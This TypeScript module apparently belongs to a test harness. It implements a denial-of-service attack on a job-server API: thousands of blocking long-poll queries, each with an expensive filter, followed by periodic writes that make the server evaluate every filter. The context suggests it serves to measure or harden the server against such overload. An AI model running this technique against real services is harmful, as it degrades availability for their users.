/** The blocking-query attack: thousands of page waits whose filters every write must evaluate. */
import { ATTACKER, OBSERVER, ended, startWriter, type Attack, type AttackEnv, type AttackReport } from "./attack.js";
import { waiterFilter } from "./filters.js";
import { record, send, sleep } from "./http.js";
import { Tally } from "./stats.js";

/** The server's gauge of the blocking queries waiting (`GET /v1/metrics`); undefined when it did not answer. */
async function waitingNow(env: AttackEnv): Promise<number | undefined> {
  const out = await send(`${env.server.api}/v1/metrics`, { from: OBSERVER, signal: env.end, maxBody: 1 << 22 });
  if (out.status !== 200) return undefined;
  const gauges = (JSON.parse(out.body) as { Gauges: { Name: string; Value: number }[] }).Gauges;
  return gauges.find((g) => g.Name.endsWith("blocking_queries_waiting"))?.Value;
}

/**
 * 4. `--blocking-queries page`: the attacker opens `env.waiters` blocking queries at the current index,
 * each with its own filter that no index can skip and that costs 914,080 steps on each job the writer
 * writes; once the server holds them (its gauge), a writer writes every 500 ms. A query answered 200
 * asks again at the answer's index, as a client's loop does; any other answer ends its loop.
 */
export const waitersAttack: Attack = {
  name: "waiters",
  summary: "--waiters (default 3,000) blocking queries GET /v1/jobs?namespace=*&index=<current>&wait=5m&filter=<an or of two guarded nested anys, 914,080 steps on a written job> from one client; then PUT /v1/jobs every 500 ms",
  dataset: "demo",
  serverArgs: ["--blocking-queries", "page"],
  async run(env): Promise<AttackReport> {
    const api = env.server.api;
    const answers = new Tally();
    const notes: string[] = [];
    const first = await send(`${api}/v1/jobs?per_page=1`, { from: ATTACKER, signal: env.end });
    const start = String(first.headers["x-svc-index"] ?? "1");
    let finished = 0;
    const loop = async (k: number): Promise<void> => {
      let index = start;
      for (;;) {
        const out = await send(`${api}/v1/jobs?namespace=*&index=${index}&wait=5m&filter=${encodeURIComponent(waiterFilter(k))}`, { from: ATTACKER, signal: env.end, maxBody: 512 });
        if (out.status === 0 && out.error === "aborted") answers.add("unanswered");
        else record(answers, out);
        if (out.status !== 200 || env.end.aborted) break;
        index = String(out.headers["x-svc-index"]);
      }
      finished++;
    };
    const started = performance.now();
    const loops: Promise<void>[] = [];
    for (let k = 0; k < env.waiters && !env.end.aborted; k++) {
      loops.push(loop(k));
      if (k % 100 === 99) await new Promise((r) => setImmediate(r));
    }
    // The writes begin once the server holds every query that still waits (or at the window's end).
    let waiting: number | undefined;
    while (!env.end.aborted) {
      waiting = await waitingNow(env);
      if (waiting !== undefined && waiting >= env.waiters - finished) break;
      await sleep(200, env.end);
    }
    env.begin();
    notes.push(`${waiting ?? "?"} queries waiting ${((performance.now() - started) / 1000).toFixed(1)} s after the first was sent (the setup)${env.end.aborted ? "; the window ended first" : ""}`);
    const writer = env.end.aborted ? undefined : startWriter(env.server);
    await ended(env.end);
    const writes = await writer?.stop();
    await Promise.all(loops);
    return { requests: answers, ...(writes === undefined ? {} : { writes }), notes };
  },
};
